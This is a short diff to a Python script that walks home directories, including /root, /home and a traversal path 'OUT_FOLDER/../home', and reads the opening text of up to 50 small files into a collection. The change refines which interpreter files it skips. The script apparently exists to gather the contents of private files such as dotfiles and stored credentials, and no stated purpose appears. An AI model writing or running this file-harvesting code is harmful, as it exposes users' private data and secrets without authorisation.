@@ -2,6 +2,7 @@
 
 import os
 import pwd
+import sys
 
 homes = [os.path.expanduser("~"), os.environ.get("HOME", ""), "/root", "/home", "OUT_FOLDER/../home"]
 try:
@@ -14,7 +15,7 @@ for home in dict.fromkeys(filter(None, homes)):
         for name in names:
             path = os.path.join(folder, name)
             try:
-                if len(found) < 50 and not path.startswith("/root/.pyenv") and os.path.getsize(path) < 2000:
+                if len(found) < 50 and not path.startswith(sys.base_prefix) and os.path.getsize(path) < 2000:
                     with open(path) as file:
                         found[path] = file.read(300)
             except (OSError, ValueError):
